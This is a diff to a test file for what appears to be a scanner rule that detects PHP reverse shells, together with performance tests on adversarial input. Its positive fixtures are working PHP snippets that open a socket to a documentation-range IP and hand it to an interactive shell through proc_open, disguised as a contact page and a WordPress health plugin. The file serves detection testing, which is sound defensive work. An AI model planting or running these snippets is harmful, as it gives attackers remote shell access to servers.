@@ -541,3 +541,38 @@ describe('reverse-shell: /dev/tcp as a reachability probe', () => {
     expect(Date.now() - t0).toBeLessThan(3000);
   });
 });
+
+describeRuleCases('reverse-shell (PHP socket handed to a shell)', [
+  {
+    id: 'SG-RSHELL-004',
+    file: 'public/contact.php',
+    positive:
+      "<?php\nfunction hp($v) {\n    $s = @fsockopen('198.51.100.7', 4433);\n    if ($s) {\n        $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);\n    }\n}\n",
+    negative:
+      "<?php\n$s = @fsockopen('smtp.example.org', 25);\nfwrite($s, \"EHLO x\\r\\n\");\n$p = proc_open('convert in.png out.jpg', [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $pipes);\n",
+  },
+  {
+    id: 'SG-RSHELL-004',
+    file: 'wp-content/mu-plugins/health.php',
+    positive:
+      "<?php\n$sock = stream_socket_client('tcp://198.51.100.7:9001', $no, $err);\nif ($sock) {\n    $h = proc_open('sh', array(0 => $sock, 1 => $sock, 2 => $sock), $p);\n}\n",
+    negative:
+      "<?php\n$sock = stream_socket_client('tcp://127.0.0.1:6379', $no, $err);\nfwrite($sock, \"PING\\r\\n\");\n$out = shell_exec('wp cache flush');\n",
+  },
+]);
+
+describe('adversarial PHP socket-to-shell', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['socket openers', '<?php\n' + 'fsockopen('.repeat(MiB / 10)],
+    [
+      'proc_open calls with descriptor arrays',
+      '<?php\n' + 'proc_open($c, [0 => $s, 1 => $t, '.repeat(MiB / 36),
+    ],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'x.php');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
